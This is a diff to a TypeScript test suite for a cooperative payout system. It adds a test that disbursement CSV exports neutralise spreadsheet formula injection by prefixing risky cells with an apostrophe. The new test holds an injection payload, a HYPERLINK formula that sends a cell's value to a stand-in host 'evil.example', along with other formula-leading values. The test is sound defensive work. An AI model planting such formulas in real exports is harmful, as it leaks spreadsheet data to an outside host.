@@ -1,4 +1,6 @@
 import { randomBytes } from "node:crypto";
+import { parse } from "csv-parse/sync";
+import { stringify } from "csv-stringify/sync";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { db } from "~/db/client.server";
 import { stripeClient } from "~/commerce/stripe-client.server";
@@ -46,7 +48,7 @@ afterEach(async () => expect(await unbalancedTransactions()).toEqual([]));
 type Setup = Awaited<ReturnType<typeof projectWithHouseholds>>;
 
 /** A project whose cooperative has a connected account, and households paid either way. */
-async function projectWithHouseholds(payees: { method: "stripe_connect" | "disbursement_list"; weight?: number; status?: string }[]) {
+async function projectWithHouseholds(payees: { method: "stripe_connect" | "disbursement_list"; weight?: number; status?: string; head?: string; village?: string }[]) {
   const project = await createTestProject({ capacity: 10 });
   const cooperative = await db().cooperative.create({
     data: { projectId: project.id, nameZh: "合作社", nameEn: `Co-op ${project.slug}`, stripeAccountId: `acct_${randomBytes(6).toString("hex")}` },
@@ -54,7 +56,11 @@ async function projectWithHouseholds(payees: { method: "stripe_connect" | "disbu
   const tag = randomBytes(3).toString("hex").toUpperCase();
   const csv = [
     "registration_code,head_of_household,village,county,cooperative,members,weight,payout_method,status",
-    ...payees.map((p, i) => `H${tag}-${String(i + 1).padStart(2, "0")},Head ${i + 1},Village,County,${cooperative.nameEn},3,${p.weight ?? 1},${p.method},${p.status ?? "active"}`),
+    ...payees.map((p, i) =>
+      [`H${tag}-${String(i + 1).padStart(2, "0")}`, p.head ?? `Head ${i + 1}`, p.village ?? "Village", "County", cooperative.nameEn, "3", String(p.weight ?? 1), p.method, p.status ?? "active"]
+        .map((field) => (/[",]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field))
+        .join(","),
+    ),
   ].join("\n");
   expect(await importHouseholds(project.id, csv)).toMatchObject({ ok: true, created: payees.length });
   const households = await db().household.findMany({ where: { projectId: project.id }, orderBy: { registrationCode: "asc" } });
@@ -190,6 +196,36 @@ describe("executing batches with workers", () => {
     const statement = await householdStatement(setup.households[0]!.id);
     expect(statement).toMatchObject({ allocatedFen: 3_000n, paidFen: 3_000n, owedFen: 0n });
     expect(statement!.allocations).toMatchObject([{ productEn: "Honey", fen: 3_000n, refund: false }]);
+  });
+
+  it("writes a household whose name is a spreadsheet formula into the disbursement list as text, and takes the file back", async () => {
+    workers ??= await startWorkers({ concurrency: 4 });
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const setup = await projectWithHouseholds([
+      { method: "disbursement_list", head: formula, village: "@SUM(1+1)" },
+      { method: "disbursement_list", head: "-2+3", village: "+Village" },
+    ]);
+    // Stored as typed: the registry keeps what the county sent.
+    expect(setup.households.map((h) => h.headName)).toEqual([formula, "-2+3"]);
+    await sell(setup, 20_000n);
+    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
+    if (!built.ok) throw new Error("nothing built");
+    expect(await approveBatch(built.batchId, setup.checker.id)).toEqual({ ok: true });
+    await waitFor(async () => (await batchStatus(built.batchId)) === "AWAITING_CONFIRMATION", { what: "the batch to await confirmation" });
+
+    const csv = await disbursementCsv(built.batchId);
+    expect(csv.startsWith("\uFEFF")).toBe(true);
+    const [header, ...rows] = parse(csv.slice(1)) as string[][];
+    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
+    // Every cell a spreadsheet would run starts with an apostrophe; amounts stay numbers.
+    expect(column("head_of_household")).toEqual([`'${formula}`, "'-2+3"]);
+    expect(column("village")).toEqual(["'@SUM(1+1)", "'+Village"]);
+    expect(column("amount_fen").every((fen) => /^\d+$/.test(fen!))).toBe(true);
+    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+
+    // The cooperative fills in the same file and it is taken back as it was written.
+    const filled = stringify([header!, ...rows.map((row) => row.map((value, i) => (header![i] === "outcome" ? "paid" : header![i] === "reference" ? "RCPT-F" : value)))]);
+    expect(await confirmDisbursements(built.batchId, `\uFEFF${filled}`)).toMatchObject({ paid: 2, rejected: [] });
   });
 
   it("retries a failing transfer with backoff, then fails it and returns it to the payable for the next batch", async () => {
